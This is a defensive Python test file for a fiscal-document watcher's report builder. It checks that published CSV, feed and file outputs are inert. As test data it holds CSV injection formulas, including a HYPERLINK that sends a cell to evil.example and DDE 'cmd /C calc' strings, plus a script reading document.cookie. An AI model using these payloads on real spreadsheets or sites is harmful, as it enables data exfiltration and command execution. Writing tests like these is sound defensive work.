"""What leaves the watcher in the published report is inert: crawled markup is served as
text, CSV cells cannot become formulas, the feed stays well-formed whatever the titles
hold, no local path is published, and ``report --out`` deletes only what it wrote."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner
from lxml import etree

from fiscalwatch.cli import cli
from fiscalwatch.models import Figure, ParsedDocument
from fiscalwatch.report import ReportError, build_report
from fiscalwatch.store import Store
from tests.report.sample import (
    QINGCHUAN,
    FrozenClock,
    add_document,
    add_finding,
    day,
    sample_config,
)

FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
CONTROL_TITLE = "青川市\x00财政\x08局\x1b[31m\ufffe"
LOCAL_URL = "file:///home/watcher/secret/2024年度部门决算.pdf"


@pytest.fixture
def store(tmp_path: Path) -> Store:
    return Store(tmp_path / "fw.db", tmp_path / "files")


def _page(store: Store, body: bytes, *, filename: str, content_type: str | None) -> int:
    stored = store.record_document(
        url=f"http://127.0.0.1/q/{filename}",
        data=body,
        source="qingchuan",
        department="青川市财政局",
        region=QINGCHUAN,
        fiscal_year=2024,
        doc_type="final_account",
        filename=filename,
        content_type=content_type,
    )
    parsed = ParsedDocument(doc_type="final_account", title="t", department="青川市财政局")
    store.save_parse(stored.document_id, parsed, "test")
    return stored.document_id


@pytest.mark.parametrize(
    ("filename", "content_type", "published"),
    [
        ("page.html", "html", ".html.txt"),
        ("page.htm", None, ".htm.txt"),
        ("page.xhtml", None, ".xhtml.txt"),
        ("chart.svg", None, ".svg.txt"),
        ("mystery", None, ".bin"),
        ("a.pdf", "pdf", ".pdf"),
    ],
)
def test_crawled_markup_is_never_published_as_active_content(
    store: Store, tmp_path: Path, filename: str, content_type: str | None, published: str
) -> None:
    body = b"<html><body><script>alert(document.cookie)</script>" + filename.encode()
    _page(store, body, filename=filename, content_type=content_type)
    build_report(store.db, sample_config(), tmp_path / "site", files=store.files)
    (copy,) = (tmp_path / "site" / "files").iterdir()
    assert copy.name.endswith(published) and copy.read_bytes() == body


def test_csv_cells_cannot_become_formulas(
    store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    frozen = FrozenClock(monkeypatch)
    document_id = add_document(
        store,
        frozen,
        department=FORMULA_NAME,
        region="+青川市",
        source="qingchuan",
        year=2024,
        fetched=day("2025-08-01"),
        published=None,
        figures=[Figure("expenditure_total", -12.5, page=3, text="@SUM(1+1)*cmd|' /C calc'!A0")],
    )
    add_finding(
        store,
        check="missing_section",
        severity="warning",
        message="-2+3+cmd|' /C calc'!A0",
        evidence={"section": "=1+1"},
        department=FORMULA_NAME,
        region="\t=1+1",
        year=2024,
        document_id=document_id,
    )
    out = tmp_path / "site"
    build_report(store.db, sample_config(), out, files=store.files)
    findings = _csv(out / "findings.csv")
    figures = _csv(out / "figures.csv")
    starts = ("=", "+", "-", "@", "\t", "\r")
    for row in findings + figures:
        for column, value in row.items():
            if column != "value":  # the one numeric column: -12.5 is a number, not a formula
                assert not value.startswith(starts), (column, value)
    assert findings[0]["department"] == "'" + FORMULA_NAME  # still readable as it was
    assert findings[0]["message"] == "'-2+3+cmd|' /C calc'!A0"
    assert figures[0]["value"] == "-12.5"  # a number stays a number
    assert figures[0]["text"] == "'@SUM(1+1)*cmd|' /C calc'!A0"


def _csv(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))


def test_control_characters_do_not_break_the_feed(
    store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    frozen = FrozenClock(monkeypatch)
    document_id = add_document(
        store,
        frozen,
        department=CONTROL_TITLE,
        region=QINGCHUAN,
        source="qingchuan",
        year=2024,
        fetched=day("2025-08-01"),
        published=None,
        figures=[],
    )
    add_finding(
        store,
        check="missing_section",
        severity="warning",
        message="缺少\x0c部门职责\x01",
        evidence={"section": "duties"},
        department=CONTROL_TITLE,
        region=QINGCHUAN,
        year=2024,
        document_id=document_id,
    )
    out = tmp_path / "site"
    build_report(store.db, sample_config(), out, files=store.files)
    feed = etree.parse(str(out / "findings.atom")).getroot()  # raises when not well-formed
    (entry,) = feed.findall("{http://www.w3.org/2005/Atom}entry")
    assert entry.findtext("{http://www.w3.org/2005/Atom}summary") == "缺少部门职责"
    assert "青川市财政局" in entry.findtext("{http://www.w3.org/2005/Atom}title")


def test_no_local_path_reaches_the_public_outputs(
    store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    frozen = FrozenClock(monkeypatch)
    document_id = add_document(
        store,
        frozen,
        department="青川市财政局",
        region=QINGCHUAN,
        source="ingest",
        year=2024,
        fetched=day("2025-08-01"),
        published=None,
        figures=[Figure("expenditure_total", 12.5, page=3, text="支出12.5万元")],
        url=LOCAL_URL,
    )
    add_finding(
        store,
        check="missing_section",
        severity="warning",
        message="缺少部门职责",
        evidence={"section": "duties"},
        department="青川市财政局",
        region=QINGCHUAN,
        year=2024,
        document_id=document_id,
        url=LOCAL_URL,
    )
    out = tmp_path / "site"
    build_report(store.db, sample_config(), out, files=store.files)
    for name in ("findings.csv", "figures.csv", "findings.json", "figures.json", "findings.atom"):
        text = (out / name).read_text(encoding="utf-8-sig")
        assert "file:" not in text and "/home/watcher" not in text, name
    items = json.loads((out / "findings.json").read_text(encoding="utf-8"))["items"]
    assert items[0]["url"] is None


def test_report_refuses_a_folder_it_did_not_write(store: Store, tmp_path: Path) -> None:
    mine = tmp_path / "mine"
    (mine / "files").mkdir(parents=True)
    (mine / "departments").mkdir()
    precious = [mine / "files" / "thesis.pdf", mine / "departments" / "notes.html", mine / "a.txt"]
    for path in precious:
        path.write_text("keep me", encoding="utf-8")
    with pytest.raises(ReportError, match="is not empty and was not written by fiscalwatch"):
        build_report(store.db, sample_config(), mine, files=store.files)
    assert all(path.read_text(encoding="utf-8") == "keep me" for path in precious)

    config = tmp_path / "config.toml"
    config.write_text(
        f'[storage]\ndatabase = "{tmp_path / "fw.db"}"\nfiles = "{tmp_path / "files"}"\n',
        encoding="utf-8",
    )
    result = CliRunner().invoke(cli, ["--config", str(config), "report", "--out", str(mine)])
    assert result.exit_code == 2 and "was not written by fiscalwatch" in result.output
    assert all(path.exists() for path in precious)


def test_a_rebuild_keeps_files_added_after_the_build(store: Store, tmp_path: Path) -> None:
    out = tmp_path / "site"
    build_report(store.db, sample_config(), out, files=store.files)
    (out / "CNAME").write_text("watch.example.org", encoding="utf-8")
    (out / "files").mkdir(exist_ok=True)
    (out / "files" / "added-by-hand.pdf").write_bytes(b"%PDF")
    build_report(store.db, sample_config(), out, files=store.files)
    assert (out / "CNAME").exists() and (out / "files" / "added-by-hand.pdf").exists()
